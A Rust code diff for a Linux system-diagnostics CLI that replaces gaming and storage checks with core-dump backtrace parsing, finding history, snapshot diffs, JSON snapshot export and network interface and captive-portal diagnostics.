+                    &["-batch", "-ex", "bt", "-c", &core],
+                    SLOW_COMMAND_TIMEOUT,
+                )
+            } else {
+                None
+            };
+            if let Some(text) = text {
+                frames = parse_frame_summary(&text, CORE_FRAME_LIMIT);
             }
         }
     }
 
-    println!();
-
-    // Steam-specific checks (only if Steam is installed)
-    let steam_installed = is_command_available("steam");
-    if steam_installed {
-        println!("{}", t!("gaming_steam_installed").to_string().green());
-
-        if metrics.steam_running {
-            println!("{}", t!("gaming_steam_running").to_string().green());
+    let frames_header = t!("crash_core_frames_header").to_string();
+    if frames.is_empty() {
+        print_section(&frames_header, Err(t!("crash_core_no_frames").to_string()));
+    } else {
+        let lines = frames
+            .into_iter()
+            .map(|frame| InsightLine {
+                level: InsightLevel::Info,
+                message: frame,
+            })
+            .collect();
+        print_section(&frames_header, Ok(lines));
+    }
+    Ok(())
+}
 
-            // Check for specific games
-            if is_process_running("cs2") || is_process_running("csgo_linux64") {
-                println!("{}", t!("gaming_cs2_detected").to_string().green());
-                println!("{}", t!("gaming_cs2_tip"));
-            }
-        } else {
-            println!("{}", t!("gaming_steam_not_running"));
+/// Extract the interesting `Key: value` pairs from `coredumpctl info` output
+fn parse_coredump_metadata(text: &str) -> Vec<(String, String)> {
+    const KEYS: &[&str] = &["PID", "Signal", "Timestamp", "Command Line", "Executable"];
+    let mut entries = Vec::new();
+    for line in text.lines() {
+        let Some((key, value)) = line.trim().split_once(':') else {
+            continue;
+        };
+        let key = key.trim();
+        if KEYS.contains(&key) && !entries.iter().any(|(k, _): &(String, String)| k == key) {
+            entries.push((key.to_string(), truncate(value.trim(), 100)));
         }
+    }
+    entries
+}
 
-        // Proton
-        if metrics.proton_failure_detected {
-            println!("{}", t!("gaming_proton_errors").to_string().red());
-            println!("{}", t!("gaming_proton_fix"));
-        } else {
-            println!("{}", t!("gaming_proton_ok").to_string().green());
+/// Summarise the first thread's backtrace from coredumpctl, gdb or eu-stack output.
+/// Frames look like `#0  0x00007f… raise (libc.so.6 + 0x40fb2)` or
+/// `#1  0x00007f… in abort () from /lib64/libc.so.6`; addresses are dropped.
+fn parse_frame_summary(text: &str, limit: usize) -> Vec<String> {
+    let mut frames = Vec::new();
+    for line in text.lines() {
+        let trimmed = line.trim();
+        if trimmed.starts_with("Stack trace of thread") && !frames.is_empty() {
+            break;
         }
-
-        // Check Proton version
-        if let Some(proton_version) = detect_proton_version() {
-            println!("{} {}", t!("gaming_proton_version"), proton_version);
+        let Some(rest) = trimmed.strip_prefix('#') else {
+            continue;
+        };
+        let mut tokens = rest.split_whitespace();
+        let Some(index) = tokens
+            .next()
+            .filter(|t| t.chars().all(|c| c.is_ascii_digit()))
+        else {
+            continue;
+        };
+        let detail: Vec<&str> = tokens
+            .skip_while(|t| t.starts_with("0x") || *t == "in")
+            .collect();
+        if detail.is_empty() {
+            continue;
+        }
+        frames.push(format!("#{index} {}", truncate(&detail.join(" "), 100)));
+        if frames.len() >= limit {
+            break;
         }
-    } else {
-        println!("{}", t!("gaming_steam_missing").to_string().yellow());
     }
+    frames
+}
 
-    println!();
-    println!("{}", t!("gaming_tip").bold());
-    println!("{}", t!("gaming_launch_options"));
+fn show_rule_stats() -> Result<()> {
+    let mut lines = Vec::new();
+    if !config::config().telemetry {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("rule_stats_disabled").to_string(),
+        });
+    }
+    let mut path = cache_dir();
+    path.push(HISTORY_FILE);
+    if !path.exists() {
+        lines.push(no_history_line());
+    } else {
+        let stats = rule_hit_stats(&open_history_db(&path)?, 50)?;
+        if stats.is_empty() {
+            lines.push(InsightLine {
+                level: InsightLevel::Info,
+                message: t!("rule_stats_empty").to_string(),
+            });
+        }
+        lines.extend(stats.into_iter().map(|(rule, hits)| InsightLine {
+            level: InsightLevel::Info,
+            message: format!("{hits:>6}  {rule}"),
+        }));
+    }
+    print_section(&t!("rule_stats_header"), Ok(lines));
     Ok(())
 }
 
-fn why_storage(metrics: &Metrics) -> Result<()> {
-    println!("{}", t!("storage_header").to_string().bold());
-    let fs_label = metrics
-        .filesystem
-        .clone()
-        .unwrap_or_else(|| "unknown".into());
-    let overview = t!("storage_overview")
-        .replace("{disk}", &format!("{:.1}", metrics.disk_full_percent))
-        .replace("{fs}", &fs_label);
-    println!("{overview}");
-
-    let smart_header = t!("storage_smart_header").to_string();
-    print_section(&smart_header, gather_smart_health());
-
-    let raid_header = t!("storage_md_header").to_string();
-    print_section(&raid_header, gather_mdraid_health());
-
-    let btrfs_header = t!("storage_btrfs_header").to_string();
-    print_section(&btrfs_header, gather_btrfs_health());
-
-    let zfs_header = t!("storage_zfs_header").to_string();
-    print_section(&zfs_header, gather_zfs_health());
+fn show_historical() -> Result<()> {
+    let mut path = user_home_dir().ok_or_else(|| anyhow!("Home not found"))?;
+    path.push(HISTORY_DIR);
+    path.push(HISTORY_FILE);
+    if !path.exists() {
+        print_section(&t!("history_header"), Ok(vec![no_history_line()]));
+        return Ok(());
+    }
+    let conn = open_history_db(&path)?;
+    let mut stmt = conn
+        .prepare("SELECT ts, severity, message FROM findings ORDER BY ts DESC LIMIT 20")
+        .context("Unable to read history")?;
+    let mut rows = stmt.query([])?;
+    let mut lines = Vec::new();
+    while let Some(row) = rows.next()? {
+        let ts: String = row.get(0)?;
+        let severity: String = row.get(1)?;
+        let message: String = row.get(2)?;
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: format!("[{ts}] {severity} — {message}"),
+        });
+    }
+    print_section(&t!("history_header"), Ok(lines));
+    Ok(())
+}
 
+fn compare_hosts(left: &Path, right: &Path) -> Result<()> {
+    let left_snapshot: serde_json::Value = diff::load_snapshot(left)?;
+    let right_snapshot: serde_json::Value = diff::load_snapshot(right)?;
+    let report = diff::diff_snapshots(
+        &left_snapshot,
+        &right_snapshot,
+        (&left.display().to_string(), &right.display().to_string()),
+    );
+    print_snapshot_diff(&report);
     Ok(())
 }
 
-fn gather_smart_health() -> SectionResult {
-    if !is_command_available("smartctl") {
-        return Err(t!("storage_smart_missing").to_string());
-    }
+/// Before/after view of two snapshots of one host: metric deltas colored by
+/// whether they got worse, then findings that appeared or went away
+fn why_diff(before: &Path, after: &Path) -> Result<()> {
+    let before_snapshot: SnapshotData = diff::load_snapshot(before)?;
+    let after_snapshot: SnapshotData = diff::load_snapshot(after)?;
+    println!(
+        "{}",
+        t!("diff_header")
+            .replace("{before}", &before_snapshot.timestamp)
+            .replace("{after}", &after_snapshot.timestamp)
+            .bold()
+    );
 
-    let scan = Command::new("smartctl")
-        .args(["--scan-open"])
-        .output()
-        .map_err(|_| t!("storage_smart_missing").to_string())?;
-    if !scan.status.success() {
-        return Err(String::from_utf8_lossy(&scan.stderr).trim().to_string());
+    let deltas = diff::metric_deltas(&before_snapshot, &after_snapshot);
+    if !deltas.is_empty() {
+        println!(
+            "\n{:<24} {:>10} {:>10} {:>10}",
+            t!("compare_field_header").to_string().bold(),
+            t!("diff_before_label"),
+            t!("diff_after_label"),
+            t!("diff_delta_label")
+        );
+        for delta in &deltas {
+            println!("{}", metric_delta_row(delta));
+        }
     }
 
-    let mut devices = Vec::new();
-    for line in String::from_utf8_lossy(&scan.stdout).lines() {
-        let device = line.split_whitespace().next().unwrap_or_default().trim();
-        if device.is_empty() || device.starts_with('#') {
+    let (resolved, appeared) = diff::finding_delta(&before_snapshot, &after_snapshot);
+    if resolved.is_empty() && appeared.is_empty() {
+        println!("\n{}", t!("diff_same_findings").to_string().green());
+    }
+    for (title, rules, regression) in [
+        (t!("diff_appeared"), &appeared, true),
+        (t!("diff_resolved"), &resolved, false),
+    ] {
+        if rules.is_empty() {
             continue;
         }
-        devices.push(device.to_string());
-    }
-    devices.sort();
-    devices.dedup();
-    if devices.is_empty() {
-        return Err(t!("storage_smart_no_devices").to_string());
-    }
-
-    let mut lines = Vec::new();
-    for device in devices.into_iter().take(8) {
-        let output = Command::new("smartctl").args(["-H", &device]).output();
-        match output {
-            Ok(out) if out.status.success() => {
-                let text = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
-                let mut level = InsightLevel::Info;
-                let mut status = "UNKNOWN".to_string();
-                if text.contains("passed") {
-                    level = InsightLevel::Good;
-                    status = "PASSED".into();
-                }
-                if text.contains("failed") {
-                    level = InsightLevel::Critical;
-                    status = "FAILED".into();
-                } else if text.contains("prefail") {
-                    level = InsightLevel::Warning;
-                    status = "PRE-FAIL".into();
-                }
-                lines.push(InsightLine {
-                    level,
-                    message: format!("{device}: SMART {status}"),
-                });
-            }
-            Ok(out) => {
-                let err = String::from_utf8_lossy(&out.stderr);
-                let fallback = if err.trim().is_empty() {
-                    "smartctl -H requires root privileges".into()
-                } else {
-                    err.trim().to_string()
-                };
-                lines.push(InsightLine {
-                    level: InsightLevel::Warning,
-                    message: format!("{device}: {fallback}"),
-                });
+        println!("\n{}", title.bold());
+        for rule in rules {
+            let line = format!("  {rule}");
+            if regression {
+                println!("{}", line.red());
+            } else {
+                println!("{}", line.green());
             }
-            Err(_) => lines.push(InsightLine {
-                level: InsightLevel::Warning,
-                message: format!("{device}: smartctl invocation failed"),
-            }),
         }
     }
-    Ok(lines)
+    Ok(())
 }
 
-fn gather_mdraid_health() -> SectionResult {
-    let text =
-        fs::read_to_string("/proc/mdstat").map_err(|_| t!("storage_mdstat_missing").to_string())?;
-    let mut lines = Vec::new();
-    for block in text.split("\n\n") {
-        let mut parts = block.lines();
-        let header = match parts.next() {
-            Some(line) if line.starts_with("md") => line,
-            _ => continue,
-        };
-        let name = header.split_whitespace().next().unwrap_or("md?");
-        let normalized = block.to_ascii_lowercase();
-        let missing =
-            normalized.contains("_]") || normalized.contains("[u_") || normalized.contains("[__");
-        let degraded = normalized.contains("degraded") || missing;
-        let recovering = normalized.contains("recovery") || normalized.contains("resync");
-        let level = if degraded {
-            InsightLevel::Critical
-        } else if recovering {
-            InsightLevel::Warning
-        } else {
-            InsightLevel::Good
-        };
-        let detail = if degraded {
-            "degraded"
-        } else if recovering {
-            "resync in progress"
-        } else {
-            "healthy"
-        };
-        lines.push(InsightLine {
-            level,
-            message: format!("{name}: {detail}"),
-        });
-    }
-    if lines.is_empty() {
-        Err(t!("storage_mdstat_clean").to_string())
-    } else {
-        Ok(lines)
-    }
+fn metric_delta_row(delta: &diff::MetricDelta) -> String {
+    let value = |value: Option<f64>| value.map_or_else(|| "—".to_string(), |v| format!("{v:.1}"));
+    let change = delta
+        .delta()
+        .map_or_else(|| "—".to_string(), |d| format!("{d:+.1}"));
+    // Pad before coloring: escape codes would count towards the width
+    let change = format!("{change:>10}");
+    let change = match delta.regression() {
+        Some(true) => change.red().to_string(),
+        Some(false) => change.green().to_string(),
+        None => change,
+    };
+    format!(
+        "{:<24} {:>10} {:>10} {}",
+        delta.name,
+        value(delta.before),
+        value(delta.after),
+        change
+    )
 }
 
-fn gather_btrfs_health() -> SectionResult {
-    if !is_command_available("btrfs") {
-        return Err(t!("storage_btrfs_missing").to_string());
+fn print_snapshot_diff(report: &diff::SnapshotDiff) {
+    println!(
+        "{}",
+        t!("compare_header")
+            .replace("{left}", &report.left_label)
+            .replace("{right}", &report.right_label)
+            .bold()
+    );
+    if report.is_empty() {
+        println!("{}", t!("compare_identical").to_string().green());
+        return;
     }
-    let mounts = btrfs_mount_points();
-    if mounts.is_empty() {
-        return Err(t!("storage_btrfs_not_found").to_string());
+    if !report.fields.is_empty() {
+        println!(
+            "\n{:<28} │ {:<24} │ {}",
+            t!("compare_field_header").to_string().bold(),
+            report.left_label,
+            report.right_label
+        );
+        println!("{}", "─".repeat(80));
+        for field in &report.fields {
+            println!(
+                "{:<28} │ {:<24} │ {}",
+                field.name,
+                truncate(&field.left, 24),
+                field.right.yellow()
+            );
+        }
+    }
+    for (label, rules) in [
+        (&report.left_label, &report.only_left),
+        (&report.right_label, &report.only_right),
+    ] {
+        if rules.is_empty() {
+            continue;
+        }
+        println!(
+            "\n{}",
+            t!("compare_only_findings").replace("{host}", label).bold()
+        );
+        for rule in rules {
+            println!("  • {rule}");
+        }
     }
+}
 
-    let mut lines = Vec::new();
-    for mount in mounts.into_iter().take(4) {
-        let output = Command::new("btrfs")
-            .args(["device", "stats", &mount])
-            .output();
-        match output {
-            Ok(out) if out.status.success() => {
-                let mut errors = Vec::new();
-                for line in String::from_utf8_lossy(&out.stdout).lines() {
-                    let trimmed = line.trim();
-                    if trimmed.is_empty() {
-                        continue;
-                    }
-                    if let Some(value_token) = trimmed.split_whitespace().last() {
-                        if let Ok(value) = value_token.parse::<u64>() {
-                            if value > 0 {
-                                errors.push(trimmed.to_string());
-                            }
-                        }
-                    }
-                }
-                if errors.is_empty() {
-                    lines.push(InsightLine {
-                        level: InsightLevel::Good,
-                        message: format!("{mount}: no device errors reported"),
-                    });
-                } else {
-                    for err in errors {
-                        lines.push(InsightLine {
-                            level: InsightLevel::Warning,
-                            message: format!("{mount}: {err}"),
-                        });
-                    }
-                }
-            }
-            Ok(out) => {
-                let err = String::from_utf8_lossy(&out.stderr);
-                lines.push(InsightLine {
-                    level: InsightLevel::Warning,
-                    message: format!("{mount}: {}", err.trim()),
-                });
+/// Write `contents` to `file_name` inside `dir` (created if missing), or in
+/// the current directory when no `--output-dir` was given
+fn write_output_file(dir: Option<&Path>, file_name: &str, contents: &str) -> Result<PathBuf> {
+    let path = match dir {
+        Some(dir) => {
+            fs::create_dir_all(dir)
+                .with_context(|| format!("Unable to create {}", dir.display()))?;
+            dir.join(file_name)
+        }
+        None => PathBuf::from(file_name),
+    };
+    fs::write(&path, contents).with_context(|| format!("Failed to write {}", path.display()))?;
+    Ok(path)
+}
+
+fn generate_snapshot(
+    metrics: &Metrics,
+    findings: &[Finding],
+    machine_id: Option<&str>,
+    output_dir: Option<&Path>,
+    compact: bool,
+) -> Result<()> {
+    use chrono::Utc;
+    use std::process::Command;
+
+    // Gather system metadata
+    let timestamp = Utc::now().to_rfc3339();
+    let hostname = whoami::devicename();
+    let kernel = run_cmd_c_locale("uname", &["-r"]).unwrap_or_else(|| "unknown".to_string());
+    let distro = whoami::distro().to_string();
+    let uptime_seconds = System::uptime();
+
+    // Gather recent logs (last 100 lines)
+    let recent_dmesg = output_with_timeout(&mut Command::new("dmesg"), command_timeout())
+        .ok()
+        .and_then(|out| {
+            if out.status.success() {
+                Some(
+                    String::from_utf8_lossy(&out.stdout)
+                        .lines()
+                        .rev()
+                        .take(100)
+                        .map(|s| s.to_string())
+                        .collect::<Vec<_>>(),
+                )
+            } else {
+                None
             }
-            Err(_) => lines.push(InsightLine {
-                level: InsightLevel::Warning,
-                message: format!("{mount}: btrfs device stats failed"),
-            }),
+        });
+
+    let recent_journal = output_with_timeout(
+        Command::new("journalctl").args(["-n", "100", "--no-pager"]),
+        command_timeout(),
+    )
+    .ok()
+    .and_then(|out| {
+        if out.status.success() {
+            Some(
+                String::from_utf8_lossy(&out.stdout)
+                    .lines()
+                    .map(|s| s.to_string())
+                    .collect::<Vec<_>>(),
+            )
+        } else {
+            None
+        }
+    });
+
+    // Track what's included for summary
+    let has_dmesg = recent_dmesg.is_some();
+    let has_journal = recent_journal.is_some();
+
+    // Build snapshot
+    let snapshot = SnapshotData {
+        schema_version: schema::SCHEMA_VERSION,
+        timestamp: timestamp.clone(),
+        hostname: hostname.clone(),
+        kernel,
+        distro,
+        uptime_seconds,
+        machine_id: machine_id.map(str::to_string),
+        metrics: metrics.clone(),
+        findings: findings.to_vec(),
+        recent_dmesg,
+        recent_journal,
+    };
+
+    // Generate JSON
+    let json = output::to_json(&snapshot, compact)?;
+
+    let filename = format!("why-snapshot-{}.json", timestamp.replace(':', "-"));
+    let path = write_output_file(output_dir, &filename, &json)?;
+
+    println!("{}", t!("snapshot_generated").green().bold());
+    println!();
+    println!(
+        "{}  {}",
+        t!("snapshot_json_label").bold(),
+        path.display().to_string().cyan()
+    );
+    println!(
+        "{}     {}",
+        t!("snapshot_size_label").dimmed(),
+        format!("{} bytes", json.len()).dimmed()
+    );
+    println!();
+    println!("{}", t!("snapshot_includes").bold());
+    println!("  • {}", t!("snapshot_metadata"));
+    println!("  • {}", t!("snapshot_metrics"));
+    println!(
+        "  • {}",
+        t!("snapshot_findings_count").replace("{count}", &findings.len().to_string())
+    );
+    if has_dmesg {
+        println!("  • {}", t!("snapshot_dmesg"));
+    }
+    if has_journal {
+        println!("  • {}", t!("snapshot_journal"));
+    }
+    println!();
+    println!("{}", t!("snapshot_attach_tip").dimmed());
+
+    Ok(())
+}
+
+fn why_slow(
+    sys: &System,
+    metrics: &Metrics,
+    findings: &[Finding],
+    config: &config::Config,
+) -> Result<()> {
+    let limits = &config.thresholds;
+    println!("{}", t!("slow_header").to_string().bold());
+    println!();
+
+    // System vitals
+    println!(
+        "{}",
+        t!("slow_system_performance").to_string().bold().cyan()
+    );
+    println!("{} {}", t!("slow_cpu_label"), cpu_percent_label(metrics));
+    match metrics.cpu_usage {
+        Some(cpu) if cpu > limits.cpu_critical => {
+            println!("  {} {}", "⚠️".yellow(), t!("slow_cpu_very_high"))
+        }
+        Some(cpu) if cpu > limits.cpu_warning => {
+            println!("  {} {}", "⚠️".yellow(), t!("slow_cpu_elevated"))
+        }
+        Some(_) => println!("  {} {}", "✓".green(), t!("slow_cpu_normal")),
+        None => {}
+    }
+
+    println!(
+        "{} {:.1}% ({} MB total)",
+        t!("slow_ram_label"),
+        metrics.mem_usage,
+        metrics.total_ram_mb
+    );
+    if metrics.mem_usage > limits.ram_critical {
+        println!("  {} {}", "🔥".red(), t!("slow_ram_critical"));
+    } else if metrics.mem_usage > limits.ram_warning {
+        println!("  {} {}", "⚠️".yellow(), t!("slow_ram_high"));
+    } else {
+        println!("  {} {}", "✓".green(), t!("slow_ram_acceptable"));
+    }
+
+    if metrics.swap_total_mb == 0 {
+        println!(
+            "{} {}",
+            t!("slow_swap_label"),
+            t!("slow_swap_none").dimmed()
+        );
+    } else {
+        println!(
+            "{} {:.1}% ({} MB total)",
+            t!("slow_swap_label"),
+            metrics.swap_usage_percent,
+            metrics.swap_total_mb
+        );
+        if metrics.swap_usage_percent > SWAP_CRITICAL_PERCENT {
+            println!("  {} {}", "🔥".red(), t!("slow_swap_critical"));
+        } else if metrics.swap_usage_percent > SWAP_WARNING_PERCENT {
+            println!("  {} {}", "⚠️".yellow(), t!("slow_swap_high"));
+        } else {
+            println!("  {} {}", "✓".green(), t!("slow_swap_fine"));
+        }
+    }
+
+    if let (Some(one), Some(five), Some(fifteen)) =
+        (metrics.load_avg_1, metrics.load_avg_5, metrics.load_avg_15)
+    {
+        let cores = sys.cpus().len();
+        println!(
+            "{} {:.2} {:.2} {:.2} ({} cores)",
+            t!("slow_load_label"),
+            one,
+            five,
+            fifteen,
+            cores
+        );
+        if cores > 0 && one > cores as f32 {
+            println!("  {} {}", "⚠️".yellow(), t!("slow_load_high"));
+        } else {
+            println!("  {} {}", "✓".green(), t!("slow_load_fine"));
+        }
+    }
+
+    println!(
+        "{} {:.1}% full",
+        t!("slow_disk_label"),
+        metrics.disk_full_percent
+    );
+    if metrics.disk_full_percent > limits.disk_critical {
+        println!("  {} {}", "🔥".red(), t!("slow_disk_critical"));
+    } else if metrics.disk_full_percent > limits.disk_warning {
+        println!("  {} {}", "⚠️".yellow(), t!("slow_disk_high"));
+    } else {
+        println!("  {} {}", "✓".green(), t!("slow_disk_fine"));
+    }
+
+    if let Some(iowait) = metrics.iowait_percent {
+        println!("{} {:.1}%", t!("slow_iowait_label"), iowait);
+        if iowait > IOWAIT_WARNING_PERCENT {
+            println!("  {} {}", "⚠️".yellow(), t!("slow_iowait_high"));
+            let io_header = t!("slow_io_pressure_header").to_string();
+            print_section(&io_header, gather_io_pressure());
+            let io_procs_header = t!("io_processes_header").to_string();
+            print_section(&io_procs_header, Ok(gather_io_processes()));
+        } else {
+            println!("  {} {}", "✓".green(), t!("slow_iowait_fine"));
+        }
+    }
+
+    println!();
+
+    // Top CPU consumers
+    println!("{}", t!("slow_top_cpu").to_string().bold().cyan());
+    let cpu_procs = top_n_by(
+        sys.processes()
+            .values()
+            .map(|p| (p.cpu_usage(), p.name()))
+            .collect(),
+        5,
+        |a, b| a.0.partial_cmp(&b.0).unwrap_or(Ordering::Equal),
+    );
+    for (usage, name) in cpu_procs.iter() {
+        if *usage > 5.0 {
+            println!("  {} {:.1}%", fit_column(name, PROCESS_NAME_WIDTH), usage);
+        }
+    }
+
+    println!();
+
+    // Top RAM consumers
+    println!("{}", t!("slow_top_ram").to_string().bold().cyan());
+    let mem_procs = top_n_by(
+        sys.processes()
+            .values()
+            .map(|p| (p.memory(), p.name()))
+            .collect(),
+        5,
+        |a, b| a.0.cmp(&b.0),
+    );
+    for (mem_bytes, name) in mem_procs.iter() {
+        let mem_mb = *mem_bytes / (1024 * 1024);
+        if mem_mb > 100 {
+            println!("  {} {} MB", fit_column(name, PROCESS_NAME_WIDTH), mem_mb);
+        }
+    }
+
+    let display_header = t!("slow_display_header").to_string();
+    print_section(&display_header, gather_display_latency(metrics));
+
+    let zombies = zombie_lines(&read_proc_stats());
+    if !zombies.is_empty() {
+        let zombie_header = t!("slow_zombie_header").to_string();
+        print_section(&zombie_header, Ok(zombies));
+    }
+    println!();
+
+    // Performance-related findings
+    let perf_findings: Vec<&Finding> = findings
+        .iter()
+        .filter(|f| {
+            f.rule_name.contains("cpu")
+                || f.rule_name.contains("mem")
+                || f.rule_name.contains("disk")
+                || f.rule_name.contains("snap")
+                || f.rule_name.contains("flatpak")
+                || f.rule_name.contains("baloo")
+                || f.rule_name.contains("chrome")
+                || f.rule_name.contains("firefox")
+                || f.rule_name.contains("docker")
+                || f.rule_name.contains("swap")
+                || f.rule_name.contains("zram")
+        })
+        .collect();
+
+    if !perf_findings.is_empty() {
+        println!("{}", t!("slow_issues_detected").to_string().bold().red());
+        for finding in top_findings(perf_findings, 8) {
+            println!(
+                "{} {} — {}",
+                finding.severity,
+                finding.message.trim(),
+                finding.solution
+            );
         }
+    } else {
+        println!("{}", t!("slow_all_good").to_string().green().bold());
+    }
+
+    println!();
+    println!("{}", t!("slow_tip"));
+
+    Ok(())
+}
+
+fn why_net(
+    metrics: &Metrics,
+    findings: &[Finding],
+    trace: Option<&str>,
+    interface: Option<&str>,
+    captive: bool,
+) -> Result<()> {
+    // Validate before printing anything so a typo fails fast
+    let interfaces = scope_interfaces(read_interface_stats().unwrap_or_default(), interface)?;
+
+    filter_show("Net", findings);
+
+    let interfaces_header = t!("net_interfaces_header").to_string();
+    print_section(&interfaces_header, Ok(interface_traffic_lines(&interfaces)));
+    let errors_header = t!("net_errors_header").to_string();
+    print_section(&errors_header, Ok(interface_error_lines(&interfaces)));
+    if let Some(name) = interface {
+        let addresses = interface_addresses(name);
+        let address_header = t!("net_interface_addr_header").replace("{iface}", name);
+        print_section(
+            &address_header,
+            Ok(interface_detail_lines(name, &addresses)),
+        );
+    }
+
+    let conntrack_header = t!("net_conntrack_header").to_string();
+    let conntrack = match metrics.conntrack_usage_percent {
+        Some(usage) => Ok(vec![InsightLine {
+            level: if usage >= 95.0 {
+                InsightLevel::Critical
+            } else if usage >= 80.0 {
+                InsightLevel::Warning
+            } else {
+                InsightLevel::Good
+            },
+            message: t!("net_conntrack_usage").replace("{usage}", &format!("{usage:.1}")),
+        }]),
+        None => Err(t!("net_conntrack_missing").to_string()),
+    };
+    print_section(&conntrack_header, conntrack);
+
+    if let Some(host) = trace {
+        if !is_valid_trace_host(host) {
+            return Err(anyhow!(t!("net_trace_invalid_host").replace("{host}", host)));
+        }
+        let trace_header = t!("net_trace_header").replace("{host}", host);
+        print_section(&trace_header, gather_trace(host));
+    }
+    if captive {
+        print_section(&t!("net_captive_header"), gather_captive_portal());
+    }
+    Ok(())
+}
+
+/// Plain-HTTP endpoint that answers 204 with no body; portals intercept it
+const CAPTIVE_PROBE_URL: &str = "http://connectivitycheck.gstatic.com/generate_204";
+const CAPTIVE_PROBE_TIMEOUT: Duration = Duration::from_secs(5);
+
+#[derive(Debug, PartialEq)]
+enum CaptiveProbe {
+    Open,
+    /// Redirected (to `Location`, if sent) or served a login page instead
+    Portal(Option<String>),
+    /// Any other status: the probe says nothing about a portal
+    Unexpected(u16),
+}
+
+fn classify_captive_probe(status: u16, location: Option<&str>, body: &str) -> CaptiveProbe {
+    match status {
+        204 => CaptiveProbe::Open,
+        // Some networks return an empty 200 instead of 204
+        200 if body.trim().is_empty() => CaptiveProbe::Open,
+        200 => CaptiveProbe::Portal(None),
+        300..=399 => CaptiveProbe::Portal(location.map(str::to_string)),
+        other => CaptiveProbe::Unexpected(other),
+    }
+}
+
+fn captive_probe_line(probe: &CaptiveProbe) -> InsightLine {
+    match probe {
+        CaptiveProbe::Open => InsightLine {
+            level: InsightLevel::Good,
+            message: t!("net_captive_open").to_string(),
+        },
+        CaptiveProbe::Portal(location) => InsightLine {
+            level: InsightLevel::Warning,
+            message: match location {
+                Some(url) => t!("net_captive_portal_at").replace("{url}", url),
+                None => t!("net_captive_portal").to_string(),
+            },
+        },
+        CaptiveProbe::Unexpected(status) => InsightLine {
+            level: InsightLevel::Info,
+            message: t!("net_captive_unexpected").replace("{status}", &status.to_string()),
+        },
+    }
+}
+
+/// One request to `CAPTIVE_PROBE_URL`, without following redirects
+fn gather_captive_portal() -> SectionResult {
+    let client = reqwest::blocking::Client::builder()
+        .timeout(CAPTIVE_PROBE_TIMEOUT)
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .map_err(|err| err.to_string())?;
+    let response = client
+        .get(CAPTIVE_PROBE_URL)
+        .send()
+        .map_err(|_| t!("net_captive_failed").to_string())?;
+    let status = response.status().as_u16();
+    let location = response
+        .headers()
+        .get(reqwest::header::LOCATION)
+        .and_then(|value| value.to_str().ok())
+        .map(str::to_string);
+    let body = response.text().unwrap_or_default();
+    Ok(vec![captive_probe_line(&classify_captive_probe(
+        status,
+        location.as_deref(),
+        &body,
+    ))])
+}
+
+#[derive(Clone, Debug, Default, PartialEq)]
+struct InterfaceStats {
+    name: String,
+    rx_bytes: u64,
+    tx_bytes: u64,
+    rx_errors: u64,
+    rx_drops: u64,
+    tx_errors: u64,
+    tx_drops: u64,
+}
+
+impl InterfaceStats {
+    fn errors_and_drops(&self) -> u64 {
+        self.rx_errors + self.rx_drops + self.tx_errors + self.tx_drops
+    }
+}
+
+/// Counters per interface from /proc/net/dev (two header lines, then
+/// `name: rx_bytes packets errs drop fifo frame compressed multicast
+/// tx_bytes packets errs drop ...`)
+fn parse_proc_net_dev(text: &str) -> Vec<InterfaceStats> {
+    text.lines()
+        .skip(2)
+        .filter_map(|line| {
+            let (name, counters) = line.split_once(':')?;
+            let fields: Vec<u64> = counters
+                .split_whitespace()
+                .filter_map(|field| field.parse().ok())
+                .collect();
+            Some(InterfaceStats {
+                name: name.trim().to_string(),
+                rx_bytes: *fields.first()?,
+                rx_errors: *fields.get(2)?,
+                rx_drops: *fields.get(3)?,
+                tx_bytes: *fields.get(8)?,
+                tx_errors: *fields.get(10)?,
+                tx_drops: *fields.get(11)?,
+            })
+        })
+        .collect()
+}
+
+/// `netstat -ib` rows: `Name Mtu Network Address Ipkts Ierrs Ibytes Opkts
+/// Oerrs Obytes Coll`, repeated per address. Only the `<Link#N>` row of each
+/// interface is kept, and read from the right because Address may be empty.
+/// netstat reports no drops without `-d`.
+fn parse_netstat_ib(text: &str) -> Vec<InterfaceStats> {
+    text.lines()
+        .skip(1)
+        .filter_map(|line| {
+            let parts: Vec<&str> = line.split_whitespace().collect();
+            if !parts.get(2)?.starts_with("<Link#") {
+                return None;
+            }
+            let counters: Vec<u64> = parts[parts.len().checked_sub(7)?..]
+                .iter()
+                .map(|field| field.parse().ok())
+                .collect::<Option<_>>()?;
+            Some(InterfaceStats {
+                name: parts[0].trim_end_matches('*').to_string(),
+                rx_errors: counters[1],
+                rx_bytes: counters[2],
+                tx_errors: counters[4],
+                tx_bytes: counters[5],
+                ..Default::default()
+            })
+        })
+        .collect()
+}
+
+/// A warning per interface with any error or drop since boot
+fn interface_error_lines(interfaces: &[InterfaceStats]) -> Vec<InsightLine> {
+    let lossy: Vec<InsightLine> = interfaces
+        .iter()
+        .filter(|iface| iface.errors_and_drops() > 0)
+        .map(|iface| InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("net_interface_errors")
+                .replace("{iface}", &iface.name)
+                .replace("{rx_errors}", &iface.rx_errors.to_string())
+                .replace("{rx_drops}", &iface.rx_drops.to_string())
+                .replace("{tx_errors}", &iface.tx_errors.to_string())
+                .replace("{tx_drops}", &iface.tx_drops.to_string()),
+        })
+        .collect();
+    if lossy.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("net_errors_none").to_string(),
+        }];
+    }
+    lossy
+}
+
+/// Every interface but loopback, or only `wanted`, which must exist
+fn scope_interfaces(
+    stats: Vec<InterfaceStats>,
+    wanted: Option<&str>,
+) -> Result<Vec<InterfaceStats>> {
+    match wanted {
+        Some(name) => {
+            let scoped: Vec<_> = stats.into_iter().filter(|s| s.name == name).collect();
+            if scoped.is_empty() {
+                return Err(anyhow!(t!("net_interface_unknown").replace("{iface}", name)));
+            }
+            Ok(scoped)
+        }
+        None => Ok(stats.into_iter().filter(|s| s.name != "lo").collect()),
+    }
+}
+
+fn format_bytes(bytes: u64) -> String {
+    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
+    let mut value = bytes as f64;
+    let mut unit = 0;
+    while value >= 1024.0 && unit < UNITS.len() - 1 {
+        value /= 1024.0;
+        unit += 1;
+    }
+    format!("{value:.1} {}", UNITS[unit])
+}
+
+fn interface_traffic_lines(interfaces: &[InterfaceStats]) -> Vec<InsightLine> {
+    interfaces
+        .iter()
+        .map(|iface| InsightLine {
